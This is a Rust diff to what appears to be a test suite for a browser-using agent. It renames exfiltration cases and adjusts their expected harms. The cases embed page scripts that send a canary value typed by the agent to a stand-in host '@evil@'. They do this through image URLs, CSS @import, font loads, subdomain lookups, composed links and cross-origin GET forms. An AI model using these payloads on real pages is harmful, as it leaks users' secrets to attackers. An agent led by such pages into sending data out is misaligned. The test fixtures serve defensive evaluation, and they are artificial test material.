@@ -103,7 +103,7 @@ fn scripts() -> Vec<Case> {
             "<input id=f aria-label=Field><script>on('f','input',()=>{{const v=encodeURIComponent(f.value);{script};said('tried')}})</script>"
         );
         Case::new(
-            &format!("E-07/typed-{variant}"),
+            &format!("EGRESS/typed-{variant}"),
             "a page sends on what was read elsewhere and typed here",
             "<p>Your code is @canary@</p>",
         )
@@ -111,7 +111,7 @@ fn scripts() -> Vec<Case> {
         .start("@mail@/")
         .granted(&[Grant::AllowRead("shop")])
         .moves([look(), open("@shop@/field"), fill("Field", CANARY), until("tried"), look()])
-        .harm(&[Harm::CanaryLeaves("mail")])
+        .harm(&[Harm::CanaryReaches("evil")])
     };
     vec![
         typed("picture", "new Image().src='@evil@/?'+v"),
@@ -126,13 +126,13 @@ fn scripts() -> Vec<Case> {
         typed("css-import", "document.head.insertAdjacentHTML('beforeend','<style>@import \"@evil@/?'+v+'\"</style>')"),
         typed("font", "new FontFace('x','url(@evil@/?'+v+')').load().catch(()=>{})"),
         typed("preconnect-host", "document.head.insertAdjacentHTML('beforeend','<img src=http://'+f.value.toLowerCase()+'.evil.test:@port@/>')"),
-        Case::new("E-07/known-link", "an address that was typed into a field counts as a link afterwards", "<input id=f aria-label=Field><a id=l href=/>Link</a><script>on('f','input',()=>l.href=f.value)</script>")
+        Case::new("EGRESS/known-link", "an address that was typed into a field counts as a link afterwards", "<input id=f aria-label=Field><a id=l href=/>Link</a><script>on('f','input',()=>l.href=f.value)</script>")
             .moves([fill("Field", &format!("@evil@/?q={CANARY}")), open(&format!("@evil@/?q={CANARY}"))])
             .harm(&[Harm::Reaches("evil")]).routes(&Route::OWN),
-        Case::new("E-07/click-composed-link", "a link is made of what was typed", "<input id=f aria-label=Field><a id=l href=/>Link</a><script>on('f','input',()=>l.href='@evil@/?'+f.value)</script>")
+        Case::new("EGRESS/click-composed-link", "a link is made of what was typed", "<input id=f aria-label=Field><a id=l href=/>Link</a><script>on('f','input',()=>l.href='@evil@/?'+f.value)</script>")
             .moves([fill("Field", CANARY), click("Link"), look()])
             .harm(&[Harm::Reaches("evil")]).routes(&Route::OWN),
-        Case::new("E-07/get-form", "a GET form of another origin carries what was typed", "<form action=@evil@/search><input name=q aria-label=Field><button>Search</button></form>")
+        Case::new("EGRESS/get-form", "a GET form of another origin carries what was typed", "<form action=@evil@/search><input name=q aria-label=Field><button>Search</button></form>")
             .moves([fill("Field", CANARY), click("Search"), look()])
             .harm(&[Harm::Reaches("evil")]).routes(&Route::OWN),
     ]
@@ -191,7 +191,8 @@ fn typed() -> Vec<Case> {
             press("Control+v", "Field"),
             look(),
         ])
-        .harm(&[Harm::CanaryLeaves("mail")]),
+        .harm(&[Harm::CanaryLeaves("mail")])
+        .routes(&Route::OWN),
     ]
 }
 
